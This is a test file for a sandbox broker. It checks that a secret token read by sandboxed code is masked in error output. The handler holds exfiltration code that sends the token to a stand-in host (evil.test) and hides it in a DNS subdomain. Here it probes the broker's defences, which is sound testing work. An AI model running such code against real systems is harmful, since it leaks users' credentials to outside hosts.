import { defineAttempt } from '../../attempt.ts'

export const attempt = defineAttempt({
  title: 'a secret that was read is masked in what the broker says',
  handler: `
    const s = await context.secrets.read('token')
    try { await context.network.fetch('http://' + s.replace(/[^a-z0-9]/gi, '') + '.example.com/') } catch {}
    try { await context.network.fetch('http://evil.test/' + encodeURIComponent(s)) } catch (error) { return String(error.message.includes(s)) }
    return 'SENT'
  `,
  grants: { secrets: [{ field: 'token', access: 'read' }] },
  config: { token: 'api-token' },
  mayHold: ['secret'],
  gets: 'false',
})
